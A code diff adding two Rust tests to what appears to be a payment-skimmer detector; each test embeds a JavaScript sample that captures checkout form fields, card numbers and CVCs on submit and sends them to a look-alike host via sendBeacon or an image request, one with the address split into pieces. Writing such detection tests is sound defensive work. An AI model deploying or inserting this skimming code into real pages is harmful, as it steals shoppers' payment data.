@@ -254,3 +254,66 @@ fn a_prefix_that_burns_the_budget_does_not_hide_the_skimmer_after_it() {
         exfil.message
     );
 }
+
+/// A skimmer's enclosing function first spins a loop that costs more than running the
+/// function's statements may take: the loop is given up (its variables unknown), and the
+/// address the listener assembles after it is still named.
+#[test]
+fn a_loop_that_burns_the_enclosing_run_does_not_hide_the_address_after_it() {
+    let code = "(function () {\n\
+          var h = 0; for (var i = 0; i < 3000000; i++) h = (h * 31 + i) | 0;\n\
+          document.addEventListener('submit', function () {\n\
+            var p = [];\n\
+            p.push('https://');\n\
+            p.push('metrics-jsdelivr');\n\
+            p.push('.net/c');\n\
+            var d = document.querySelector('#cc-number').value + '|' +\n\
+                    document.querySelector('[autocomplete=cc-csc]').value;\n\
+            navigator.sendBeacon(p.join(''), d);\n\
+          }, true);\n\
+        })();\n"
+        .to_string();
+    let r = engine().analyse_batch(vec![job(code)]).pop().unwrap();
+    let rules: Vec<&str> = r.findings.iter().map(|f| f.rule.as_str()).collect();
+    let exfil = r
+        .findings
+        .iter()
+        .find(|f| f.rule == "payment-data-exfiltration")
+        .unwrap_or_else(|| panic!("{rules:?}"));
+    assert!(
+        exfil.message.contains("metrics-jsdelivr.net"),
+        "{}",
+        exfil.message
+    );
+}
+
+/// A loop the run cannot follow (its bound is a page value) leaves what it writes unknown,
+/// except the known start of a string it only appends to: the address is still named, and a
+/// value the loop replaces is never reported as the one it held before.
+#[test]
+fn a_loop_the_run_cannot_follow_keeps_only_what_it_cannot_change() {
+    let code = "(function () {\n\
+          document.querySelector('form.checkout').addEventListener('submit', function () {\n\
+            var u = 'https://img-shopcdn-stats.com/p.gif?';\n\
+            var fields = document.querySelectorAll('input');\n\
+            for (var i = 0; i < fields.length; i++) {\n\
+              u += fields[i].name + '=' + encodeURIComponent(fields[i].value) + '&';\n\
+            }\n\
+            var card = document.getElementById('cc-number').value;\n\
+            new Image().src = u + 'c=' + btoa(card);\n\
+          });\n\
+        })();\n"
+        .to_string();
+    let r = engine().analyse_batch(vec![job(code)]).pop().unwrap();
+    let rules: Vec<&str> = r.findings.iter().map(|f| f.rule.as_str()).collect();
+    let exfil = r
+        .findings
+        .iter()
+        .find(|f| f.rule == "payment-data-exfiltration")
+        .unwrap_or_else(|| panic!("{rules:?}"));
+    assert!(
+        exfil.message.contains("img-shopcdn-stats.com"),
+        "{}",
+        exfil.message
+    );
+}
